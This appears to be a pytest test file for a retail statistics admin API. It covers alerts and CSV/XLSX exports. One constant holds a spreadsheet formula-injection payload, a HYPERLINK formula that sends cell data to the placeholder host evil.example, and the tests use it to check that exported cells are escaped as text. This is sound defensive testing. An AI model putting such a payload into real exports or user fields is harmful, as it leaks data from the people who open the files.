"""Alerts (动销率 outside 60–80%, price index moving week over week) and CSV / XLSX exports."""
import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from .. import factories
from .market_data import WEEK, build, fetch, observe
from .test_indicators import SPEC_A


def price_move_scenario(w47_price):
    spec = factories.create_product(sku="X", guide_price=Decimal("10.00"))
    shop = factories.create_retailer()
    observe(shop, spec, "W45", 10, 0)
    observe(shop, spec, "W46", 5, 0, pp="10.00", cp="100.00")        # q 5 at 10.00: index 1.0
    observe(shop, spec, "W47", 0, 0, pp=w47_price, cp="100.00")      # q 5


def alerts(api, admin, **query):
    return fetch(api, admin, "/admin/stats/alerts", **{"week": WEEK, **query})


def test_sell_through_outside_the_band_is_flagged(api, admin):
    build()
    body = alerts(api, admin)
    assert {"sku": "A", "kind": "sell_through_out_of_band", "value": 0.3333, "previous": None,
            "limit": 0.6} in body["items"]
    assert body["sell_through_band"] == [0.6, 0.8]


def test_price_index_moving_more_than_the_configured_percentage_is_flagged(api, admin):
    price_move_scenario("10.60")
    (item,) = alerts(api, admin)["items"]
    assert item == {"sku": "X", "kind": "price_index_moved", "value": 1.06, "previous": 1.0, "change_pct": 6.0,
                    "limit": 5.0}
    assert alerts(api, admin, threshold_pct=10)["items"] == []


def test_price_index_threshold_comes_from_config(app, api, admin):
    price_move_scenario("10.40")
    assert alerts(api, admin)["items"] == []
    app.config["PRICE_INDEX_ALERT_PCT"] = 3
    assert [i["kind"] for i in alerts(api, admin)["items"]] == ["price_index_moved"]


def test_indicators_export_as_csv(api, admin):
    build()
    response = api.get("/admin/stats/indicators", token=admin.token, query_string={"week": WEEK, "format": "csv"})
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="indicators-2026-W47.csv"'
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0]["sku"] == "A" and rows[0]["price_index"] == str(SPEC_A["price_index"])
    assert rows[1]["sell_through_rate"] == ""  # null stays empty, not 0


def test_indicators_export_as_xlsx(api, admin):
    build()
    response = api.get("/admin/stats/indicators", token=admin.token,
                       query_string={"week": WEEK, "format": "xlsx", "group_by": "format"})
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.values)
    header = rows[0]
    assert header[:2] == ("sku", "group")
    assert rows[1][header.index("listing_rate")] == 0.6667


def test_unknown_export_format_is_422(api, admin):
    response = api.get("/admin/stats/indicators", token=admin.token, query_string={"week": WEEK, "format": "pdf"})
    assert response.status_code == 422


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_export_cells_that_start_like_a_formula_are_written_as_text():
    """A spec or gift name typed by an admin ends up in a cell: = + - @ (and tab, CR) must not run in Excel."""
    from app.stats.exports import export

    items = [{"sku": "A", "name": FORMULA}, {"sku": "B", "name": "+1"}, {"sku": "C", "name": "-2"},
             {"sku": "D", "name": "@SUM(A1)"}, {"sku": "E", "name": "\t=1"}, {"sku": "F", "name": "中华(硬)",
                                                                             "value": -0.5}]
    text = export(items, "x", "csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["name"] for r in rows] == ["'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\t=1", "中华(硬)"]
    assert rows[5]["value"] == "-0.5"  # numbers are not text: a negative one stays a number
    sheet = load_workbook(io.BytesIO(export(items, "x", "xlsx").get_data())).active
    values = list(sheet.values)
    assert values[1][1] == "'" + FORMULA and sheet["B2"].data_type == "s"
    assert values[6][2] == -0.5


def test_gift_named_like_a_formula_is_text_in_the_redemption_exports(api, admin):
    from datetime import date

    from .test_member_stats import at, join
    from .test_redemption_stats import redeem

    gift = factories.create_gift(name=FORMULA, points_cost=10, stock=5)
    handle = join()
    factories.grant_points(handle.id, 100, now=at(date(2026, 11, 1)))
    redeem(handle, gift, 1, date(2026, 11, 3))
    query = {"by": "gift", "from": "2026-11-01", "to": "2026-11-30"}
    response = api.get("/admin/stats/redemptions", token=admin.token, query_string={**query, "format": "csv"})
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
    assert row["name"] == "'" + FORMULA
    response = api.get("/admin/stats/redemptions", token=admin.token, query_string={**query, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.data)).active
    header, row = list(sheet.values)
    assert row[header.index("name")] == "'" + FORMULA


def test_fraud_scans_with_their_time_export_as_xlsx_in_shanghai_time(api, admin):
    """A far scan carries a timestamp with an offset, which XLSX cannot hold (openpyxl refused it: a 500)."""
    from datetime import datetime, timezone

    from .test_member_stats import join, scan

    factories.create_retailer(region_code="440106", lat=Decimal("23.130000"), lon=Decimal("113.320000"))
    handle = join()
    scan(handle, factories.create_product(), datetime(2026, 11, 18, 2, tzinfo=timezone.utc), lat=39.90, lon=116.40)
    query = {"from": "2026-11-18", "to": "2026-11-18"}
    response = api.get("/admin/stats/fraud", token=admin.token, query_string={**query, "format": "xlsx"})
    assert response.status_code == 200, response.json
    header, row = list(load_workbook(io.BytesIO(response.data)).active.values)
    assert row[header.index("signal")] == "far_scans"
    assert row[header.index("created_at")] == "2026-11-18 10:00:00"
